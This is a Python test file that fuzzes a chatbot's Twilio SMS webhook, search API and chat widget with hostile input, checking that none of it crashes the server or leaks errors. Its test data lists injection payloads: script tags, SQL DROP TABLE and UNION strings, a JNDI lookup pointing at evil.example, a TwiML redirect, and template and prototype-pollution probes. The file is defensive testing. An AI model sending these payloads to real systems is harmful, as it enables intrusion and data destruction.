"""Hostile input against the real channel code and the web API: every request gets a clear answer
(a kind reply or a 4xx), nothing of an exception leaves the server, and no other conversation is
touched."""
from __future__ import annotations

import json
import logging
import re
import uuid
from urllib.parse import quote, urlencode

import pytest
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from multidict import MultiDict
from twilio.request_validator import RequestValidator

from bot.rasa_server.channels.twilio_sms import EMPTY_TEXT
from bot.limits import RateLimiter
from bot.senders import sender_id
from support.sms import KEY, PHONE, SENDER, TOKEN, sms, table_rows
from support.web import BEARER

OTHER_PHONE = "+12675550199"
OTHER_SENDER = sender_id(OTHER_PHONE, KEY)
LEAKS = re.compile(r"Traceback|File \"|Exception|Error:|line \d+|site-packages", re.IGNORECASE)
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f]")

HOSTILE_TEXTS = {
    "long": "help " * 2000,
    "empty": "",
    "blank": " \t\n ",
    "nul": "need\x00 naloxone\x00",
    "only-nul": "\x00\x00",
    "escape": "\x1b[2J\x1b[31mmethadone\x1b[0m",
    "carriage-return": "line one\rline two\r\n",
    "backspace": "stop\x08\x08\x08\x08hello",
    "emoji-only": "🙂🙏🏽👨‍👩‍👧💊",
    "right-to-left": "أحتاج مساعدة في فيلادلفيا",
    "bidi-override": "\u202eenodaxolan\u202c",
    "hebrew-mixed": "צריך עזרה 19134",
    "html": "<b>hi</b><script>alert(1)</script><img src=x onerror=alert(1)>",
    "cdata": "]]><![CDATA[<Redirect>https://evil.example</Redirect>]]>",
    "sql": "'; DROP TABLE events;--",
    "sql-union": "19134' OR '1'='1' UNION SELECT * FROM messages_seen --",
    "jinja": "{{7*7}} {% raw %}",
    "format": "{name} {0} {sender_id!r}",
    "printf": "%s %d %(text)s %n",
    "dollar": "${jndi:ldap://evil.example/a} $HOME",
    "slot-injection": '/inform{"location": "19134"}',
    "intent-injection": "/restart",
    "bom-and-zero-width": "\ufeff\u200bhello\u200d",
    "combining": "Z̷̢̛̙̗a̸̧̛l̵g̶o̷",
    "replacement": "\ufffd\ufffe",
}


def assert_no_leak(text: str) -> None:
    assert not LEAKS.search(text), text[:500]


# --- the SMS webhook ------------------------------------------------------------------------------


async def conversation_of(webhook, sender: str):
    tracker = await webhook.tracker_store.retrieve(sender)
    return None if tracker is None else [event.as_dict() for event in tracker.events]


@pytest.mark.parametrize("name", list(HOSTILE_TEXTS))
async def test_a_hostile_sms_gets_a_kind_reply_and_leaves_other_conversations_alone(start_webhook, name):
    text = HOSTILE_TEXTS[name]
    webhook = await start_webhook()
    assert (await webhook.post(sms("hello", From=OTHER_PHONE))).status == 200
    others_before = await conversation_of(webhook, OTHER_SENDER)
    calls_before = [call for call in webhook.tracker_store.calls if call[1] == OTHER_SENDER]

    reply = await webhook.post(sms(text))
    assert reply.status == 200
    messages = reply.messages()  # well-formed TwiML: the text cannot break out of its <Message>
    assert messages, "a hostile message still gets an answer"
    assert_no_leak(reply.body)
    assert "<Redirect" not in reply.body and "<script" not in reply.body
    assert "49" not in "".join(messages)  # no template is evaluated
    for received in webhook.agent.received[1:]:
        assert received.sender_id == SENDER
        assert not CONTROL.search(received.text)
        assert len(received.text) <= 1000
    if not webhook.agent.received[1:]:  # nothing left to read: the fixed reply, not the assistant
        assert messages == [EMPTY_TEXT]

    assert await conversation_of(webhook, OTHER_SENDER) == others_before
    calls_after = [call for call in webhook.tracker_store.calls if call[1] == OTHER_SENDER]
    assert calls_after[:len(calls_before)] == calls_before
    assert [call[0] for call in calls_after[len(calls_before):]] == ["retrieve"]  # the check above


async def test_a_sql_fragment_is_kept_as_text_and_the_stores_still_work(start_webhook):
    webhook = await start_webhook()
    injected = HOSTILE_TEXTS["sql"]
    reply = await webhook.post(sms(injected, MessageSid="SM'; DROP TABLE messages_seen;--"))
    assert reply.messages() == [f"You said: {injected}"]
    assert (await webhook.post(sms("STOP", From=OTHER_PHONE))).messages() == []
    assert webhook.store.is_suppressed(OTHER_SENDER) and not webhook.store.is_suppressed(SENDER)
    # Two messages seen, one suppression, and the reply to each kept for Twilio's retries.
    assert len(table_rows(webhook.store)) == 5
    assert (await webhook.post(sms("still here"))).messages() == ["You said: still here"]


async def test_a_1_mb_body_is_refused_unread_signed_or_not(start_webhook):
    webhook = await start_webhook()
    body = urlencode(sms("x" * 1_000_000)).encode()
    signed = await webhook.post(sms("x" * 1_000_000))
    unsigned = await webhook.post(body=body, sign=False)
    assert (signed.status, unsigned.status) == (413, 403)
    for reply in (signed, unsigned):
        assert_no_leak(reply.body)
    assert webhook.agent.received == [] and webhook.tracker_store.calls == [] and table_rows(webhook.store) == []


@pytest.mark.parametrize("body", [
    b"%", b"Body=%zz&From=%2B12155550123", b"=&=&", b"\xff" * 32, b"Body=%ED%A0%80&From=x",
    b"&&&", b"From=%2B12155550123&Body=" + b"%C3" * 10,
])
async def test_more_malformed_forms_are_refused_without_details(start_webhook, body):
    webhook = await start_webhook()
    reply = await webhook.post(body=body)
    assert reply.status in (400, 403)  # not a form, or a form other than the one signed
    assert_no_leak(reply.body)
    assert webhook.agent.received == [] and table_rows(webhook.store) == []


@pytest.mark.parametrize("content_type, body", [
    ("application/json", json.dumps({"From": PHONE, "Body": "hi"}).encode()),
    ("multipart/form-data; boundary=x", b"--x\r\nContent-Disposition: form-data; name=\"Body\"\r\n\r\nhi\r\n--x--"),
    ("text/plain", b"From=%2B12155550123&Body=hi"),
    ("text/xml", b"<Response><Message>hi</Message></Response>"),
    ("", b"From=%2B12155550123&Body=hi"),
    ("application/x-www-form-urlencoded-but-not", b"From=%2B12155550123&Body=hi"),
])
async def test_a_wrong_content_type_is_415(start_webhook, content_type, body):
    webhook = await start_webhook()
    reply = await webhook.post(body=body, content_type=content_type)
    assert reply.status == 415
    assert_no_leak(reply.body)
    assert webhook.agent.received == []


async def test_a_form_signed_for_another_sender_cannot_touch_this_one(start_webhook):
    webhook = await start_webhook()
    await webhook.post(sms("hello", From=OTHER_PHONE))
    before = await conversation_of(webhook, OTHER_SENDER)
    # Twilio signs what it sent: a field added or changed afterwards breaks the signature.
    for forged in ({**sms("DELETE"), "From": OTHER_PHONE}, {**sms("hi"), "From": [PHONE, OTHER_PHONE]}):
        reply = await webhook.post(forged, signed_params=sms("DELETE"))
        assert reply.status == 403
    assert await conversation_of(webhook, OTHER_SENDER) == before
    assert [m.sender_id for m in webhook.agent.received] == [OTHER_SENDER]


async def test_a_repeated_from_field_is_answered_for_the_first_value_only(start_webhook):
    webhook = await start_webhook()
    params = [*sms("hello").items(), ("From", OTHER_PHONE)]
    signature = RequestValidator(TOKEN).compute_signature(webhook.url, MultiDict(params))
    async with webhook.session.post(webhook.url, data=urlencode(params).encode(), headers={
            "Content-Type": "application/x-www-form-urlencoded", "X-Twilio-Signature": signature}) as response:
        assert response.status == 200
    assert [m.sender_id for m in webhook.agent.received] == [SENDER]
    assert OTHER_SENDER not in webhook.tracker_store.store


async def test_an_unsigned_replay_of_a_signed_message_is_refused(start_webhook):
    webhook = await start_webhook()
    params = sms("naloxone near me")
    assert (await webhook.post(params)).status == 200
    replay = await webhook.post(params, sign=False)
    assert replay.status == 403
    assert len(webhook.agent.received) == 1


# A fuzz run of the webhook's request handling: random bytes, random fields, random content types,
# signed and unsigned, into one running server.

FORM_FIELDS = st.dictionaries(
    st.sampled_from(["Body", "From", "To", "MessageSid", "SmsSid", "NumMedia", "MediaUrl0", "AccountSid"])
    | st.text(max_size=12),
    st.text(max_size=300), max_size=8)
CONTENT_TYPES = st.sampled_from([
    "application/x-www-form-urlencoded", "application/x-www-form-urlencoded; charset=utf-8",
    "APPLICATION/X-WWW-FORM-URLENCODED", "application/json", "text/plain", "multipart/form-data", "",
    "application/x-www-form-urlencoded; charset=\x7f"]) | st.text(
        st.characters(min_codepoint=32, max_codepoint=126), max_size=40)


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data())
async def test_fuzzed_webhook_requests_never_get_a_5xx_or_raise(start_webhook, caplog, data):
    webhook = getattr(start_webhook, "_fuzz_webhook", None)
    if webhook is None:
        # Without limits, so that every example reaches the code it is aimed at.
        webhook = start_webhook._fuzz_webhook = await start_webhook(sender_limit=RateLimiter(0),
                                                                    refused_limit=RateLimiter(0))
    caplog.clear()
    kind = data.draw(st.sampled_from(["bytes", "signed form", "unsigned form", "signed bytes", "signed sms"]))
    content_type = data.draw(CONTENT_TYPES)
    if kind == "signed sms":  # a message as Twilio sends it, with any text and any extra or changed fields
        fields = {**sms(data.draw(st.text(max_size=1200))), **data.draw(FORM_FIELDS)}
        reply = await webhook.post(fields)
    elif kind in ("signed form", "unsigned form"):
        fields = data.draw(FORM_FIELDS)
        body = urlencode(fields).encode()
        sign = kind == "signed form"
        reply = await webhook.post(fields, body=body, content_type=content_type or "application/x-www-form-urlencoded",
                                   sign=sign)
    else:
        body = data.draw(st.binary(max_size=2000))
        headers = {}
        if kind == "signed bytes":
            headers["X-Twilio-Signature"] = data.draw(st.text(st.characters(min_codepoint=33, max_codepoint=126),
                                                              max_size=40))
        reply = await webhook.post(body=body, content_type=content_type, sign=False, headers=headers)
    event(f"{kind}: {reply.status}")
    assert reply.status < 500, reply
    assert_no_leak(reply.body)
    if reply.status == 200:
        reply.messages()  # well-formed TwiML
    errors = [r for r in caplog.records if r.levelno >= logging.ERROR or r.exc_info]
    assert errors == [], [r.getMessage() for r in errors]


# --- /api/search ----------------------------------------------------------------------------------


@pytest.mark.parametrize("name", [name for name in HOSTILE_TEXTS if name not in ("empty", "blank")])
@pytest.mark.parametrize("parameter", ["place", "q"])
async def test_hostile_search_parameters_get_a_4xx_with_a_reason(serve, fake_rasa, name, parameter):
    client = await serve(rasa_url=fake_rasa.url)  # q is read by a stand-in for Rasa's NLU
    response = await client.get("/api/search", params={parameter: HOSTILE_TEXTS[name]}, headers=BEARER)
    text = await response.text()
    assert response.status in (200, 400, 422), (response.status, text)
    assert_no_leak(text)
    if response.content_type == "application/json":
        body = json.loads(text)
        if response.status != 200:
            assert body["error"]
        assert "<script" not in text and "49" not in body.get("error", "")
    else:  # a URL over 8 KB: refused by aiohttp's HTTP parser before the app sees it
        assert response.status == 400 and len(HOSTILE_TEXTS[name]) > 8000


@pytest.mark.parametrize("query", [
    "place=%ff%fe", "place=%", "place=%00", "place=19134&page=%F0%9F%99%82", "page_size=1e9&place=19134",
    "place=" + "9" * 100_000, "place=19134&" + "medication=methadone&" * 2000, "medication[]=x&place=19134",
    "place=19134&__proto__=x",
])
async def test_malformed_search_queries_get_a_4xx(serve, query):
    client = await serve()
    response = await client.get(f"/api/search?{query}", headers=BEARER)
    assert 400 <= response.status < 500, response.status
    assert_no_leak(await response.text())
    # The registry is still there for the next search.
    assert (await client.get("/api/search", params={"place": "19134"}, headers=BEARER)).status == 200


async def test_a_sql_fragment_in_a_search_does_not_reach_the_database(serve, national_registry):
    client = await serve()
    before = national_registry.stats()
    for place in ("19134'; DROP TABLE listings;--", "Philadelphia, PA' OR 1=1 --", "19134;DROP TABLE listings"):
        response = await client.get("/api/search", params={"place": place}, headers=BEARER)
        assert response.status in (200, 400, 422)
    assert national_registry.stats() == before


# --- the widget -----------------------------------------------------------------------------------


WIDGET_PAYLOADS = [
    *({"message": text} for text in HOSTILE_TEXTS.values()),
    {"message": None}, {"message": 12345}, {"message": ["a", "b"]}, {"message": {"text": "hi"}},
    {"message": "x" * 3000},
]


async def test_hostile_widget_messages_get_an_answer_or_nothing_and_the_socket_keeps_working(start_widget):
    widget = await start_widget(session_limit=RateLimiter(0), ip_limit=RateLimiter(0))
    client, other = await widget.connect(), await widget.connect()
    token, other_token = await client.session(None), await other.session(None)
    await other.emit("user_uttered", {"message": "hello", "session_id": other_token})
    assert await other.next_event() == ("bot_uttered", {"text": "got hello"})

    for payload in WIDGET_PAYLOADS:
        await client.emit("user_uttered", {**payload, "session_id": token})
        await client.emit("user_uttered", {"message": "ping", "session_id": token})
        events = []
        while (event := await client.next_event()) != ("bot_uttered", {"text": "got ping"}):
            events.append(event)
        assert len(events) <= 1, payload
        for name, data in events:
            assert name == "bot_uttered"
            assert_no_leak(json.dumps(data))
            assert not CONTROL.search(data["text"])
    for message in widget.received:
        assert message.sender_id == "web-" + token.split(".")[0] or message.text == "hello"
        assert not CONTROL.search(message.text) and len(message.text) <= 2000
    assert [m.text for m in widget.received if m.sender_id == "web-" + other_token.split(".")[0]] == ["hello"]
    await client.close()
    await other.close()


@pytest.mark.parametrize("packet", [
    '42["user_uttered"]', '42["user_uttered", "just a string"]', '42["user_uttered", null]',
    '42["user_uttered", [1, 2, 3]]', '42["session_request", "x"]', '42["session_request", {"session_id": {"$ne": 1}}]',
    '42["no_such_event", {}]', '42[]', "42{not json", "4", "9", '42["user_uttered", {"message": "hi"}]',
    '42["user_uttered", {"message": "hi", "session_id": null}]',
])
async def test_malformed_socket_io_packets_do_not_reach_the_assistant_or_break_the_server(start_widget, packet):
    widget = await start_widget()
    client = await widget.connect()
    token = await client.session(None)
    await client.websocket.send_str(packet)
    fresh = await widget.connect()
    fresh_token = await fresh.session(None)
    await fresh.emit("user_uttered", {"message": "still answering?", "session_id": fresh_token})
    assert await fresh.next_event() == ("bot_uttered", {"text": "got still answering?"})
    assert [m.text for m in widget.received] == ["still answering?"]
    await fresh.close()
    await client.close()
    assert token


async def test_widget_polling_with_garbage_is_4xx(start_widget):
    widget = await start_widget()
    for query, body in [("EIO=4&transport=polling&sid=" + quote("'; DROP TABLE x;--"), b"42[]"),
                        ("EIO=9&transport=polling", b""), ("EIO=4&transport=carrier-pigeon", b""),
                        ("EIO=4&transport=polling&sid=" + uuid.uuid4().hex, b"\xff\xfe\x00")]:
        async with widget.session.post(f"{widget.url}/socket.io/?{query}", data=body,
                                       headers={"Origin": "http://widget.example.org"}) as response:
            assert 400 <= response.status < 500
            assert_no_leak(await response.text())
